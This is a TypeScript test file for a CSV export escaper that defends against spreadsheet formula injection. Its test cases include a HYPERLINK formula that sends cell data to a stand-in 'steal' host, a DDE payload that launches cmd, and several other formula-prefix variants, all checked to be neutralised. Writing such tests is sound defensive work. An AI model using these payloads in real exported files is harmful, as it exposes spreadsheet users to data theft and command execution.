import { test } from 'node:test'
import assert from 'node:assert/strict'
import { parse } from 'csv-parse/sync'
import { escapeSpreadsheetCell, startsLikeFormula, toCsv } from './spreadsheet-escape.ts'

// [input, escaped]
const CASES: [string | null | undefined, string][] = [
  [
    '=HYPERLINK("http://records-export.example/steal?d="&A2&B2,"Click")',
    `'=HYPERLINK("http://records-export.example/steal?d="&A2&B2,"Click")`,
  ],
  ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ['+SUM(1+1)*cmd', "'+SUM(1+1)*cmd"],
  ['-2+3', "'-2+3"],
  ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
  ['\t=1+1', "'\t=1+1"],
  ['\r=1+1', "'\r=1+1"],
  ['\uFF1D1+1', "'\uFF1D1+1"],
  ['-', "'-"],
  ['Welfare check - no answer', 'Welfare check - no answer'],
  ['a=b', 'a=b'],
  [' =1+1', ' =1+1'],
  ["'already quoted", "'already quoted"],
  ['', ''],
  [null, ''],
  [undefined, ''],
]

for (const [input, expected] of CASES) {
  test(`escapeSpreadsheetCell(${JSON.stringify(input)})`, () => {
    assert.equal(escapeSpreadsheetCell(input), expected)
    if (typeof input === 'string' && input !== '') assert.equal(startsLikeFormula(input), expected !== input)
  })
}

test('CSV fields are escaped, then quoted when needed', () => {
  const line = (value: string) => toCsv([value], []).slice(1, -2)
  assert.equal(line('plain'), 'plain')
  assert.equal(line('a, b'), '"a, b"')
  assert.equal(line('she said "no"'), '"she said ""no"""')
  assert.equal(line('line 1\nline 2'), '"line 1\nline 2"')
  assert.equal(line(' padded '), '" padded "')
  assert.equal(line('=1+1'), "'=1+1")
  assert.equal(line('=A1,B1'), `"'=A1,B1"`)
  assert.equal(toCsv(['a', 'b'], [[null, undefined]]), '\uFEFFa,b\r\n,\r\n')
})

test('an exported CSV reads back with every cell as escaped text', () => {
  const rows = [
    ['19/12/2023', "=cmd|' /C calc'!A0", 'Card left, "urgent"'],
    ['20/12/2023', '+SUM(1+1)*cmd', '@SUM(A1:A9)'],
  ]
  const csv = toCsv(['date', 'event', 'action_taken'], rows)
  assert.ok(csv.startsWith('\uFEFFdate,event,action_taken\r\n'))
  const back = parse(csv, { bom: true }) as string[][]
  assert.deepEqual(back.slice(1), [
    ['19/12/2023', "'=cmd|' /C calc'!A0", 'Card left, "urgent"'],
    ['20/12/2023', "'+SUM(1+1)*cmd", "'@SUM(A1:A9)"],
  ])
  for (const cell of back.flat()) assert.equal(startsLikeFormula(cell), false, cell)
})

test('a marking is a single-cell first line before the header; without one the header comes first', () => {
  const csv = toCsv(['date', 'event'], [['1 May 2023', 'Visit']], { marking: 'OFFICIAL-SENSITIVE' })
  assert.equal(csv, '\uFEFFOFFICIAL-SENSITIVE\r\ndate,event\r\n1 May 2023,Visit\r\n')
  const back = parse(csv, { bom: true, relax_column_count: true }) as string[][]
  assert.deepEqual(back, [['OFFICIAL-SENSITIVE'], ['date', 'event'], ['1 May 2023', 'Visit']])
  assert.ok(toCsv(['date'], []).startsWith('\uFEFFdate\r\n'))
})
